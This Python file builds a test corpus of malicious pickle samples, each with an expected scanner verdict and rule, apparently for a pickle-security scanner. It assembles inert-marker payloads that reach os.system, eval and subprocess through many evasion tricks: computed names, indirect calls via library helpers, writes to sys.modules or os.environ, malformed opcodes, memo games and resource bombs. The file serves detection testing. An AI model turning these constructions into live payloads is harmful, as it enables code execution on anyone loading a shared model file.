"""Malicious samples by technique class, assembled opcode by opcode. Payloads are inert markers; nothing is loaded."""

import struct

from assemble import Pickle, made, part, ref
from gadgets import CODE, MARK, MEANS, PATH, SHOWN

SAMPLES = []


def add(name, technique, pickle, verdict, rule, note=""):
    data = pickle if isinstance(pickle, bytes) else pickle.data
    SAMPLES.append((name, technique, data, verdict, rule, note))


def whole(module, name, *args, protocol=2):
    return Pickle(protocol).call(module, name, *args).stop()


CALLABLE, LATE, INDIRECT, WRITE = "any importable callable", "late names", "indirect calls", "BUILD as write"
OPCODES, BROKEN, GRAMMAR, MEMO = "every way to import or call", "order and brokenness", "two grammars", "memo and stack"
TRUSTED, EXHAUST, DEFERRED, TAMPER = "names through trusted things", "denial of service", "deferred harm", "scanner tampering"
CALL, UNSAFE, WALK, NAME = "pickle/dangerous-call", "pickle/unsafe-call", "pickle/attribute-walk", "pickle/computed-name"


def callables():
    tampering = {"atexit": CALL, "faulthandler": "pickle/scanner-tampering"}
    for index, (module, name, *args) in enumerate(SHOWN):
        rule = None if module in ("faulthandler", "signal", "sys", "resource") or name == "putenv" else CALL
        rule = tampering.get(module, rule) or "pickle/scanner-tampering"
        pickle = whole(module, name, *args) if "." not in name else Pickle(4).sglob(module, name).value(tuple(args)).reduce().stop()
        add(f"callable-{module}-{name}".replace(".", "_").replace("__", ""), CALLABLE, pickle, "malicious", rule)
    for module, name, *args in MEANS:
        pickle = whole(module, name, *args) if "." not in name else Pickle(4).sglob(module, name).value(tuple(args)).reduce().stop()
        add(f"means-{module}-{name}".replace(".", "_").replace("__", ""), CALLABLE, pickle, "unsafe", None)
    add("callable-unknown", CALLABLE, whole("nobody.knows.this_module", "Thing", "x"), "undetermined", "pickle/unknown-call", "a class nobody knows: harm cannot be shown")
    add("callable-unknown-import", CALLABLE, Pickle(2).glob("nobody.knows", "Thing").stop(), "undetermined", "pickle/unknown-import", "an import runs the top of its module")
    add("callable-alike", CALLABLE, whole("nobody.knows.util", "check_output", MARK), "unsafe", UNSAFE, "unknown module, telling name")
    add("callable-main", CALLABLE, whole("__main__", "Model"), "undetermined", "pickle/unknown-call", "classes of __main__ are honest in notebooks")
    add("callable-vendored", CALLABLE, whole("joblib.externals.loky.backend.spawn", "prepare", {}), "malicious", CALL)
    add("callable-six", CALLABLE, whole("six.moves.builtins", "eval", CODE), "malicious", CALL)
    add("callable-pip-vendor", CALLABLE, whole("pip._vendor.requests", "get", "http://sallyport-inert.invalid/"), "malicious", CALL)


def late_names():
    join = made("builtins", "str.join", "", ["o", "s"])
    add("name-join", LATE, Pickle(4).value(join).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-concat", LATE, Pickle(4).value(made("operator", "add", "sub", "process")).short("getoutput").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-rot13", LATE, Pickle(4).value(made("codecs", "decode", "bf", "rot13")).value(made("codecs", "decode", "flfgrz", "rot13")).stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-base64", LATE, Pickle(4).value(part().apply(ref("codecs", "decode"), made("base64", "b64decode", "b3M="))).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-replace", LATE, Pickle(4).value(made("builtins", "str.replace", "numpy", "numpy", "os")).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-format", LATE, Pickle(4).value(made("builtins", "str.format", "{}s", "o")).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-mod", LATE, Pickle(4).value(made("operator", "mod", "%ss", "o")).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-chr", LATE, Pickle(4).apply(ref("builtins", "str.join"), "", part().apply(ref("builtins", "map"), ref("builtins", "chr"), [111, 115])).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-reversed", LATE, Pickle(4).apply(ref("builtins", "str.join"), "", made("builtins", "reversed", "so")).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-bytes", LATE, Pickle(4).apply(ref("builtins", "str"), made("builtins", "bytes", [111, 115]), "utf8").short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-decoys", LATE, Pickle(4).short("numpy").short("mean").pop().pop().short("os").memoize().short("system").memoize().short("decoy").pop().stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-unfoldable", LATE, Pickle(4).value(made("builtins", "input")).short("system").stack_global().value((MARK,)).reduce().stop(), "unsafe", NAME)
    add("name-computed-safe", LATE, Pickle(4).value(made("builtins", "str.join", "", ["num", "py"])).short("float64").stack_global().value((1,)).reduce().stop(), "unsafe", NAME, "resolves to something harmless: the way it is named is not")
    add("name-dotted", LATE, Pickle(4).sglob("torch.serialization", "os.system").value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-dotted-private", LATE, Pickle(4).sglob("tempfile", "_os.system").value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-dotted-deep", LATE, Pickle(4).sglob("pandas", "io.common.os.system").value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-dotted-sys-modules", LATE, Pickle(4).sglob("sklearn", "sys.modules").stop(), "unsafe", None)
    add("name-dotted-global", LATE, Pickle(4).glob("numpy", "os.system").value((MARK,)).reduce().stop(), "malicious", CALL)
    add("name-dotted-literal", LATE, Pickle(2).glob("numpy", "os.system").value((MARK,)).reduce().stop(), "malicious", CALL, "protocol 2 does not walk dots in CPython; other loaders do")
    add("name-python2", LATE, Pickle(None).raw(b"c__builtin__\neval\n(S'" + CODE.encode().replace(b"'", b"\\'") + b"'\ntR."), "malicious", CALL)
    add("name-python2-reduce", LATE, whole("__builtin__", "apply", None, ()), "unsafe", UNSAFE)
    add("name-reexport-numpy", LATE, Pickle(4).sglob("numpy.testing._private.utils", "sys").stop(), "unsafe", None)
    add("name-module-object", LATE, Pickle(4).sglob("torch", "os").stop(), "unsafe", WALK)
    add("name-submodule-walk", LATE, Pickle(4).sglob("sklearn", "utils.parallel.warnings.sys.modules").stop(), "unsafe", None)


def indirect_calls():
    os_module = made("builtins", "__import__", "os")
    add("indirect-partial", INDIRECT, Pickle(2).apply(made_partial(ref("os", "system"), MARK)).stop(), "malicious", CALL)
    add("indirect-partial-build", INDIRECT, Pickle(2).apply(part().apply(ref("functools", "partial"), ref("builtins", "len")).value((ref_value("os", "system"), (MARK,), {}, None)).build()).stop(), "unsafe", None)
    add("indirect-map-list", INDIRECT, Pickle(2).apply(ref("builtins", "list"), part().apply(ref("builtins", "map"), ref("os", "system"), [MARK])).stop(), "malicious", CALL)
    add("indirect-map-bytes", INDIRECT, Pickle(2).apply(ref("builtins", "bytes"), part().apply(ref("builtins", "map"), ref("os", "system"), [MARK])).stop(), "malicious", CALL)
    add("indirect-map-newobj", INDIRECT, Pickle(2).glob("builtins", "bytes").value((part_value(part().apply(ref("builtins", "map"), ref("os", "system"), [MARK])),)).newobj().stop(), "malicious", CALL)
    add("indirect-filter", INDIRECT, Pickle(2).apply(ref("builtins", "tuple"), part().apply(ref("builtins", "filter"), ref("builtins", "eval"), [CODE])).stop(), "malicious", CALL)
    add("indirect-starmap", INDIRECT, Pickle(2).apply(ref("collections", "deque"), part().apply(ref("itertools", "starmap"), ref("os", "system"), [(MARK,)])).stop(), "malicious", CALL)
    add("indirect-reduce", INDIRECT, Pickle(2).apply(ref("functools", "reduce"), ref("builtins", "eval"), [CODE], {}).stop(), "malicious", CALL)
    add("indirect-accumulate", INDIRECT, Pickle(2).apply(ref("builtins", "list"), part().apply(ref("itertools", "accumulate"), [CODE, {}], ref("builtins", "eval"))).stop(), "malicious", CALL)
    add("indirect-getattr", INDIRECT, Pickle(2).apply(part().apply(ref("builtins", "getattr"), os_module, "system"), MARK).stop(), "malicious", CALL)
    add("indirect-getattr-dict", INDIRECT, Pickle(2).apply(part().apply(ref("operator", "getitem"), part().apply(ref("builtins", "vars"), os_module), "system"), MARK).stop(), "malicious", CALL)
    add("indirect-attrgetter", INDIRECT, Pickle(2).apply(part().apply(made("operator", "attrgetter", "system"), os_module), MARK).stop(), "malicious", CALL)
    add("indirect-attrgetter-dotted", INDIRECT, Pickle(2).apply(part().apply(made("operator", "attrgetter", "path.os.system"), made("importlib", "import_module", "os")), MARK).stop(), "malicious", CALL)
    add("indirect-methodcaller", INDIRECT, Pickle(2).apply(made("operator", "methodcaller", "system", MARK), os_module).stop(), "malicious", CALL)
    add("indirect-itemgetter", INDIRECT, Pickle(2).apply(part().apply(made("operator", "itemgetter", "eval"), part().glob("builtins", "__dict__")), CODE).stop(), "malicious", CALL)
    add("indirect-operator-call", INDIRECT, Pickle(2).apply(ref("operator", "call"), ref("os", "system"), MARK).stop(), "malicious", CALL)
    add("indirect-sys-modules", INDIRECT, Pickle(2).apply(part().apply(ref("builtins", "getattr"), part().apply(ref("operator", "getitem"), ref("sys", "modules"), "os"), "system"), MARK).stop(), "malicious", CALL)
    add("indirect-resolve-name", INDIRECT, Pickle(2).apply(made("pkgutil", "resolve_name", "os:system"), MARK).stop(), "malicious", CALL)
    add("indirect-pydoc-locate", INDIRECT, Pickle(2).apply(made("pydoc", "locate", "os.system"), MARK).stop(), "malicious", CALL)
    add("indirect-ufunc-reconstruct", INDIRECT, Pickle(2).apply(made("numpy.core", "_ufunc_reconstruct", "os", "system"), MARK).stop(), "malicious", CALL, "numpy imports any name for an old form of ufuncs")
    add("indirect-function-type", INDIRECT, Pickle(2).apply(part().apply(ref("types", "FunctionType"), made("builtins", "compile", CODE, "x", "eval"), {})).stop(), "unsafe", "pickle/code-object")
    add("indirect-code-type", INDIRECT, Pickle(2).apply(part().apply(ref("types", "FunctionType"), made("marshal", "loads", b"SALLYPORT_INERT"), {})).stop(), "unsafe", "pickle/code-object")
    add("indirect-method-type", INDIRECT, Pickle(2).apply(part().apply(ref("types", "MethodType"), ref("os", "system"), MARK)).stop(), "malicious", CALL)
    add("indirect-type-dict", INDIRECT, Pickle(2).apply(part().apply(ref("builtins", "type"), "X", (), {"__init__": ref_value("os", "system")})).stop(), "malicious", CALL)
    add("indirect-type-del", INDIRECT, Pickle(2).apply(part().apply(ref("builtins", "type"), "X", (), {"__del__": ref_value("os", "system")})).stop(), "malicious", CALL)
    add("indirect-newobj-helper", INDIRECT, Pickle(2).apply(ref("copyreg", "__newobj__"), ref("subprocess", "Popen"), MARK).stop(), "malicious", CALL)
    add("indirect-reconstructor", INDIRECT, Pickle(2).apply(ref("copyreg", "_reconstructor"), ref("os", "system"), ref("builtins", "object"), None).stop(), "malicious", CALL)
    add("indirect-subclasses", INDIRECT, Pickle(4).sglob("builtins", "object.__subclasses__").value(()).reduce().stop(), "unsafe", None)
    add("indirect-getattribute", INDIRECT, Pickle(2).apply(part().apply(part().glob("builtins", "object.__getattribute__"), os_module, "system"), MARK).stop(), "malicious", CALL)
    add("indirect-planted-setstate", INDIRECT, Pickle(2).glob("argparse", "Namespace").empty_tuple().newobj().put(1).value({"__setstate__": ref_value("os", "system")}).build().get(1).value(MARK).build().stop(), "unsafe", "pickle/unexpected-state")
    add("indirect-planted-append", INDIRECT, Pickle(2).glob("argparse", "Namespace").empty_tuple().newobj().put(1).value({"append": ref_value("os", "system")}).build().get(1).value(MARK).append().stop(), "unsafe", None)
    add("indirect-planted-extend", INDIRECT, Pickle(2).glob("types", "SimpleNamespace").empty_tuple().reduce().value({"extend": ref_value("builtins", "exec")}).build().mark().value(CODE).appends().stop(), "unsafe", None)
    add("indirect-planted-getattr", INDIRECT, Pickle(2).glob("argparse", "Namespace").empty_tuple().newobj().put(1).value({"append": ref_value("builtins", "getattr")}).build().get(1).value("x").append().stop(), "unsafe", None)
    add("indirect-main", INDIRECT, Pickle(4).sglob("__main__", "__builtins__.eval").value((CODE,)).reduce().stop(), "malicious", CALL)
    add("indirect-property", INDIRECT, Pickle(2).apply(ref("builtins", "property"), ref("os", "system")).stop(), "malicious", CALL)
    add("indirect-weakref-finalize", INDIRECT, Pickle(2).apply(ref("weakref", "finalize"), ref("builtins", "object"), ref("os", "system"), MARK).stop(), "malicious", CALL)
    add("indirect-atexit", INDIRECT, Pickle(2).apply(ref("atexit", "register"), ref("os", "system"), MARK).stop(), "malicious", CALL)
    add("indirect-thread", INDIRECT, Pickle(2).apply(ref("threading", "Timer"), 0, ref("os", "system"), [MARK]).stop(), "malicious", CALL)
    add("indirect-exitstack", INDIRECT, Pickle(2).apply(part().glob("contextlib", "ExitStack.callback"), made("contextlib", "ExitStack"), ref("os", "system"), MARK).stop(), "malicious", CALL)
    add("indirect-tensor-type", INDIRECT, Pickle(2).apply(ref("torch._tensor", "_rebuild_from_type_v2"), ref("os", "system"), ref("torch", "Tensor"), (MARK,), {}).stop(), "malicious", CALL, "a PyTorch helper that calls its first argument")
    add("indirect-bit-generator", INDIRECT, Pickle(2).apply(ref("numpy.random._pickle", "__randomstate_ctor"), MARK, ref("os", "system")).stop(), "unsafe", None, "numpy calls its second argument with its first")
    add("indirect-defaultdict", INDIRECT, Pickle(2).apply(ref("collections", "defaultdict"), ref("os", "abort")).stop(), "unsafe", None)
    add("indirect-vectorize", INDIRECT, Pickle(2).apply(part().apply(ref("numpy", "vectorize"), ref("os", "system")), MARK).stop(), "malicious", CALL)
    add("indirect-lru-cache", INDIRECT, Pickle(2).apply(part().apply(ref("functools", "partialmethod"), ref("os", "system")), MARK).stop(), "malicious", CALL)
    add("indirect-result-called", INDIRECT, Pickle(2).apply(made("collections", "OrderedDict"), MARK).stop(), "unsafe", "pickle/unknown-callee")
    add("indirect-unknown-memo", INDIRECT, Pickle(2).value(part().glob("builtins", "input").empty_tuple().reduce()).value((MARK,)).reduce().stop(), "unsafe", "pickle/unknown-callee")


def made_partial(callee, *args):
    return part().apply(ref("functools", "partial"), callee, *args)


def ref_value(module, name):
    return ref(module, name)


def part_value(inner):
    return inner


def writes():
    eval_ref = ref("builtins", "eval")
    add("write-module", WRITE, Pickle(4).sglob("collections", "abc").none().value({"Hashable": eval_ref}).tuple2().build().pop().none().stop(), "unsafe", "pickle/build-on-foreign")
    add("write-class", WRITE, Pickle(2).glob("collections", "OrderedDict").put(1).none().value({"__init__": eval_ref}).tuple2().build().pop().value(made("collections", "OrderedDict", CODE)).stop(), "unsafe", "pickle/build-on-foreign")
    add("write-then-call", WRITE, Pickle(4).sglob("numpy", "linalg").none().value({"norm": eval_ref}).tuple2().build().pop().sglob("numpy", "linalg.norm").value((CODE,)).reduce().stop(), "malicious", CALL)
    add("write-sys-modules", WRITE, Pickle(2).glob("sys", "modules").value("numpy").glob("os", "path").setitem().pop().none().stop(), "malicious", "pickle/scanner-tampering")
    add("write-sys-modules-walk", WRITE, Pickle(2).glob("sys", "modules").put(1).value("sys").get(1).setitem().pop().glob("sys", "get").value(("os",)).reduce().put(2).pop().get(1).value("sys").get(2).setitem().pop().glob("sys", "system").value((MARK,)).reduce().stop(), "malicious", None)
    add("write-function-code", WRITE, Pickle(2).glob("numpy", "mean").none().value({"__code__": part_value(made("marshal", "loads", b"x"))}).tuple2().build().stop(), "unsafe", "pickle/build-on-foreign")
    add("write-builtins", WRITE, Pickle(2).glob("builtins", "__dict__").value("len").glob("os", "system").setitem().stop(), "unsafe", "pickle/fill-on-foreign")
    add("write-environ", WRITE, Pickle(2).glob("os", "environ").value("LD_PRELOAD").value(PATH).setitem().stop(), "unsafe", "pickle/fill-on-foreign")
    add("write-path", WRITE, Pickle(2).glob("sys", "path").value(PATH).append().stop(), "malicious", "pickle/scanner-tampering")
    add("write-meta-path", WRITE, Pickle(2).glob("sys", "meta_path").mark().value(PATH).appends().stop(), "malicious", "pickle/scanner-tampering")
    add("write-class-of-instance", WRITE, Pickle(2).glob("argparse", "Namespace").empty_tuple().newobj().none().value({"__class__": ref("os", "_wrap_close")}).tuple2().build().stop(), "unsafe", "pickle/unexpected-state")
    add("write-unknown-setstate", WRITE, Pickle(2).glob("nobody.knows", "Thing").empty_tuple().newobj().value({"a": MARK}).build().stop(), "undetermined", "pickle/unknown-call", "an unknown class with a state: harm cannot be shown")


def opcodes():
    add("opcode-inst", OPCODES, b"(S'" + MARK.encode() + b"'\nios\nsystem\n.", "malicious", CALL)
    add("opcode-obj", OPCODES, b"\x80\x02(cos\nsystem\nX" + struct.pack("<I", len(MARK)) + MARK.encode() + b"o.", "malicious", CALL)
    add("opcode-newobj", OPCODES, Pickle(2).glob("subprocess", "Popen").value((MARK,)).newobj().stop(), "malicious", CALL)
    add("opcode-newobj-ex", OPCODES, Pickle(4).sglob("subprocess", "Popen").value(()).value({"args": MARK}).newobj_ex().stop(), "malicious", CALL)
    for code, size in ((b"\x82", "B"), (b"\x83", "<H"), (b"\x84", "<i")):
        add(f"opcode-ext-{size.strip('<').lower()}{code.hex()}", OPCODES, Pickle(2).raw(code + struct.pack(size, 7)).value((MARK,)).reduce().stop(), "unsafe", "pickle/unknown-callee")
    add("opcode-ext-import", OPCODES, Pickle(2).raw(b"\x82\x07").stop(), "undetermined", "pickle/extension-registry", "what the number means is not in the file")
    add("opcode-ext-registered", OPCODES, Pickle(2).call("copyreg", "add_extension", "os", "system", 7).pop().raw(b"\x82\x07").value((MARK,)).reduce().stop(), "malicious", None)
    add("opcode-persid", OPCODES, b"Pos.system\n.", "undetermined", "pickle/persistent-id", "what the id means is up to the loader")
    add("opcode-binpersid-call", OPCODES, Pickle(2).value(("os", "system")).raw(b"Q").value((MARK,)).reduce().stop(), "unsafe", None)
    add("opcode-persid-storage-class", OPCODES, Pickle(2).value(("storage", ref("os", "system"), "0", "cpu", 1)).raw(b"Q").stop(), "unsafe", None)
    add("opcode-next-buffer", OPCODES, Pickle(5).raw(b"\x97").stop(), "undetermined", "pickle/out-of-band-buffer", "the buffer is not in the file")
    add("opcode-next-buffer-call", OPCODES, Pickle(5).raw(b"\x97").value((MARK,)).reduce().stop(), "unsafe", None)
    add("opcode-reduce-list-args", OPCODES, Pickle(2).glob("os", "system").value(made("builtins", "tuple", [MARK])).reduce().stop(), "malicious", CALL)
    add("opcode-setitem-unknown", OPCODES, Pickle(2).call("nobody.knows", "Thing").value("k").value("v").setitem().stop(), "undetermined", "pickle/unknown-call", "an unknown class that is filled")
    add("opcode-additems", OPCODES, Pickle(4).sglob("os", "environ").mark().value("x").raw(b"\x90").stop(), "unsafe", "pickle/fill-on-foreign")


def brokenness():
    payload = Pickle(2).call("os", "system", MARK)
    add("broken-truncated", BROKEN, payload.data, "malicious", CALL)
    add("broken-unknown-opcode", BROKEN, payload.data + b"\xff", "malicious", CALL)
    add("broken-no-stop-garbage", BROKEN, payload.data + b"0garbage", "malicious", CALL)
    add("broken-underflow", BROKEN, payload.data + b"000000", "malicious", CALL)
    add("broken-frame-lies", BROKEN, b"\x80\x04\x95" + struct.pack("<Q", 2**40) + Pickle(None).sglob("os", "system").value((MARK,)).reduce().stop().data, "malicious", CALL)
    add("broken-frame-short", BROKEN, b"\x80\x04\x95" + struct.pack("<Q", 3) + Pickle(None).sglob("os", "system").value((MARK,)).reduce().stop().data, "malicious", CALL)
    add("broken-after-stop", BROKEN, Pickle(2).none().stop().data + Pickle(2).call("os", "system", MARK).stop().data, "malicious", CALL)
    add("broken-second-of-three", BROKEN, Pickle(2).value({"a": 1}).stop().data + payload.data + b"." + Pickle(2).none().stop().data, "malicious", CALL)
    add("broken-pop-hides", BROKEN, Pickle(2).call("os", "system", MARK).pop().value({"weights": [1, 2, 3]}).stop(), "malicious", CALL)
    add("broken-pop-mark", BROKEN, Pickle(2).mark().call("os", "system", MARK).raw(b"1").value([1]).stop(), "malicious", CALL)
    add("broken-mark-trick", BROKEN, Pickle(2).mark().mark().raw(b"1").glob("os", "system").value(MARK).tuple1().reduce().raw(b"1").none().stop(), "malicious", CALL)
    add("broken-huge-memo", BROKEN, Pickle(2).none().raw(b"r" + struct.pack("<I", 2**31)).call("os", "system", MARK).stop(), "malicious", CALL)
    add("broken-proto-twice", BROKEN, Pickle(2).raw(b"\x80\x04").call("os", "system", MARK).raw(b"\x80\x00").stop(), "malicious", CALL)
    add("broken-protocol0", BROKEN, b"cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "malicious", CALL)
    add("broken-protocol0-put", BROKEN, b"cos\nsystem\np0\n0(dp1\ng0\n(S'" + MARK.encode() + b"'\ntR0.", "malicious", CALL)
    add("broken-before-payload", BROKEN, Pickle(2).value([0.5] * 64).pop().call("os", "system", MARK).stop(), "malicious", CALL)
    add("broken-long-negative", BROKEN, payload.data + b"\x8b" + struct.pack("<i", -1), "malicious", CALL)
    add("broken-duplicate-put", BROKEN, Pickle(2).glob("numpy", "mean").put(0).pop().glob("os", "system").put(0).pop().get(0).value((MARK,)).reduce().stop(), "malicious", CALL)


def grammar():
    add("grammar-hex-int", GRAMMAR, b"I0x10\n0cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "malicious", CALL)
    add("grammar-nul-int", GRAMMAR, b"I1\x00\n0cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "malicious", CALL)
    add("grammar-spaced-int", GRAMMAR, b"I 12\n0cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "malicious", CALL)
    add("grammar-octal-get", GRAMMAR, b"cos\nsystem\np010\n0g010\n(S'" + MARK.encode() + b"'\ntR.", "malicious", None)
    add("grammar-raw-string", GRAMMAR, b"S'\xff\xfe'\n0cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "malicious", CALL)
    add("grammar-underscore-float", GRAMMAR, b"F1_0.5\n0cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "malicious", CALL)
    add("grammar-long-l", GRAMMAR, b"L5\n0cos\nsystem\n(S'" + MARK.encode() + b"'\ntR.", "malicious", CALL)


def memo():
    add("memo-after-pop", MEMO, Pickle(4).sglob("os", "system").memoize().pop().raw(b"h\x00").value((MARK,)).reduce().stop(), "malicious", CALL)
    add("memo-mixed-put", MEMO, Pickle(4).short("numpy").memoize().pop().short("os").put(0).pop().get(0).short("system").stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("memo-name-overwritten", MEMO, Pickle(4).short("math").put(1).pop().short("os").put(1).pop().short("floor").put(2).pop().short("system").put(2).pop().get(1).get(2).stack_global().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("memo-carried", MEMO, Pickle(4).short("os").put(1).short("system").put(2).stop().data + Pickle(4).get(1).get(2).stack_global().value((MARK,)).reduce().stop().data, "malicious", None)
    add("memo-dup", MEMO, Pickle(2).glob("os", "system").raw(b"2").pop().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("memo-list-alias", MEMO, Pickle(2).glob("os", "system").empty_list().put(3).value(MARK).append().pop().value(made("builtins", "tuple", ["x"])).pop().value((MARK,)).reduce().stop(), "malicious", CALL)
    add("memo-far", MEMO, Pickle(2).glob("os", "system").raw(b"r" + struct.pack("<I", 70000)).pop().raw(b"j" + struct.pack("<I", 70000)).value((MARK,)).reduce().stop(), "malicious", CALL)


def trusted():
    add("trusted-globals", TRUSTED, Pickle(4).sglob("collections", "namedtuple.__globals__").put(1).pop().apply(part().apply(ref("operator", "getitem"), part().raw(b"h\x01"), "_sys"), 1).stop(), "unsafe", WALK)
    add("trusted-builtins", TRUSTED, Pickle(4).apply(part().apply(ref("operator", "getitem"), part().sglob("numpy", "mean.__globals__"), "__builtins__")).stop(), "unsafe", WALK)
    add("trusted-function-builtins", TRUSTED, Pickle(4).apply(part().apply(ref("operator", "getitem"), part().sglob("numpy", "mean.__builtins__"), "eval"), CODE).stop(), "unsafe", WALK)
    add("trusted-init-globals", TRUSTED, Pickle(4).apply(part().apply(ref("operator", "getitem"), part().sglob("torch.nn.modules.module", "Module.__init__.__globals__"), "torch"), 1).stop(), "unsafe", WALK)
    add("trusted-module-dict", TRUSTED, Pickle(4).apply(part().apply(part().sglob("os", "__dict__.get"), "system"), MARK).stop(), "malicious", CALL)
    add("trusted-class-walk", TRUSTED, Pickle(4).sglob("numpy", "ndarray.__class__.__base__.__subclasses__").value(()).reduce().stop(), "unsafe", WALK)
    add("trusted-planted-read", TRUSTED, Pickle(4).sglob("collections", "abc").none().value({"x": ref("os", "system")}).tuple2().build().pop().sglob("collections", "abc.x").value((MARK,)).reduce().stop(), "malicious", CALL)
    add("trusted-loader", TRUSTED, Pickle(4).sglob("numpy", "__loader__.load_module").value(("os",)).reduce().stop(), "unsafe", None)
    add("trusted-spec", TRUSTED, Pickle(4).sglob("numpy", "__spec__.loader.exec_module").value((None,)).reduce().stop(), "unsafe", None)
    add("trusted-enum-getattr", TRUSTED, Pickle(2).apply(ref("builtins", "getattr"), ref("transformers.trainer_utils", "IntervalStrategy"), "__init__").stop(), "unsafe", UNSAFE)
    add("trusted-bound-to-pickle", TRUSTED, Pickle(2).apply(part().apply(ref("builtins", "getattr"), made("pandas", "DataFrame"), "to_pickle"), PATH).stop(), "unsafe", None)
    add("trusted-ndarray-tofile", TRUSTED, Pickle(4).sglob("numpy", "ndarray.tofile").value((None, PATH)).reduce().stop(), "malicious", CALL)
    add("trusted-module-shadow", TRUSTED, Pickle(4).sglob("pandas", "DataFrame.eval").value((None, CODE)).reduce().stop(), "malicious", CALL)


def exhaustion():
    doubling = Pickle(2).empty_list().put(0).pop()
    for level in range(60):
        doubling.empty_list().mark().get(level).get(level).appends().put(level + 1).pop()
    add("exhaust-doubling-lists", EXHAUST, doubling.get(60).stop(), "unsafe", "pickle/resource-bomb")
    tuples = Pickle(2).empty_tuple().put(0).pop()
    for level in range(60):
        tuples.get(level).get(level).tuple2().put(level + 1).pop()
    add("exhaust-doubling-key", EXHAUST, tuples.empty_dict().get(60).none().setitem().stop(), "unsafe", "pickle/resource-bomb")
    nested = Pickle(2)
    for _ in range(6000):
        nested.raw(b"]")
    add("exhaust-nesting", EXHAUST, nested.raw(b"a" * 5999).stop(), "unsafe", "pickle/resource-bomb")
    add("exhaust-bytearray", EXHAUST, whole("builtins", "bytearray", 10**13), "unsafe", "pickle/resource-bomb")
    add("exhaust-range-list", EXHAUST, Pickle(2).apply(ref("builtins", "list"), made("builtins", "range", 10**13)).stop(), "undetermined", "pickle/unexpected-arguments", "a list of a range: not what writers do, harm depends on its size")
    add("exhaust-array-shape", EXHAUST, Pickle(2).apply(ref("numpy.core.multiarray", "_reconstruct"), ref("numpy", "ndarray"), (10**12,), b"b").stop(), "undetermined", "pickle/unexpected-arguments", "memory is reserved, not filled")
    add("exhaust-tensor-view", EXHAUST, Pickle(2).glob("torch._utils", "_rebuild_tensor_v2").mark().value(("storage", ref("torch", "FloatStorage"), "0", "cpu", 4)).raw(b"Q").value(0).value((10**12,)).value((1,)).value(False).value(made("collections", "OrderedDict")).tuple().reduce().stop(), "undetermined", "pickle/unexpected-arguments", "a view past its storage: PyTorch refuses or grows it, by version")
    add("exhaust-fraction", EXHAUST, whole("fractions", "Fraction", "1e999999999"), "undetermined", "pickle/unexpected-arguments", "a power of ten with a billion digits")
    add("exhaust-pow", EXHAUST, Pickle(2).call("operator", "pow", 10, 10**9).stop(), "unsafe", "pickle/resource-bomb")
    add("exhaust-repeat", EXHAUST, Pickle(2).apply(ref("builtins", "list"), made("itertools", "repeat", 0)).stop(), "unsafe", None)
    add("exhaust-crash", EXHAUST, whole("faulthandler", "_sigsegv"), "unsafe", "pickle/resource-bomb")


def deferred():
    estimator = part().glob("sklearn.preprocessing._function_transformer", "FunctionTransformer").empty_tuple().newobj()
    add("deferred-transformer", DEFERRED, Pickle(2).value(estimator).value({"func": ref("os", "system"), "kw_args": None}).build().stop(), "unsafe", "pickle/dangerous-import")
    add("deferred-scorer", DEFERRED, Pickle(2).glob("sklearn.metrics._scorer", "_PredictScorer").empty_tuple().newobj().value({"_score_func": ref("builtins", "eval")}).build().stop(), "unsafe", "pickle/dangerous-import")
    add("deferred-method-shadow", DEFERRED, Pickle(2).glob("sklearn.linear_model._logistic", "LogisticRegression").empty_tuple().newobj().value({"predict": part_value(made_partial(ref("os", "system"), MARK))}).build().stop(), "malicious", CALL)
    add("deferred-hook", DEFERRED, Pickle(2).glob("torch.nn.modules.linear", "Linear").empty_tuple().newobj().value({"training": False, "_forward_hooks": {0: ref("subprocess", "getoutput")}}).build().stop(), "unsafe", "pickle/dangerous-import")
    add("deferred-hook-unknown", DEFERRED, Pickle(2).glob("torch.nn.modules.linear", "Linear").empty_tuple().newobj().value({"_forward_hooks": {0: ref("nobody.knows", "hook")}}).build().stop(), "undetermined", "pickle/unknown-import", "a function nobody knows")
    add("deferred-object-array", DEFERRED, Pickle(2).value(object_array(part().value([ref("os", "system")]), 63)).stop(), "unsafe", "pickle/dangerous-import")
    add("deferred-default-factory", DEFERRED, Pickle(2).apply(ref("collections", "defaultdict"), made_partial(ref("os", "system"), MARK)).stop(), "malicious", CALL)
    add("deferred-key-function", DEFERRED, Pickle(2).value({"key": ref("builtins", "exec")}).stop(), "unsafe", "pickle/dangerous-import")
    add("deferred-cloudpickle", DEFERRED, Pickle(2).apply(ref("cloudpickle.cloudpickle", "_make_function"), part().apply(ref("types", "CodeType"), 0, 0, b"SALLYPORT_INERT"), {}, None, None, None).stop(), "unsafe", "pickle/code-object")
    add("deferred-dill", DEFERRED, Pickle(2).apply(ref("dill._dill", "_create_function"), part().apply(ref("dill._dill", "_create_code"), b"SALLYPORT_INERT"), {}).stop(), "unsafe", "pickle/code-object")
    add("deferred-fx", DEFERRED, Pickle(2).apply(ref("torch.fx.graph_module", "reduce_graph_module"), {"_code": CODE}, "").stop(), "unsafe", "pickle/code-object")
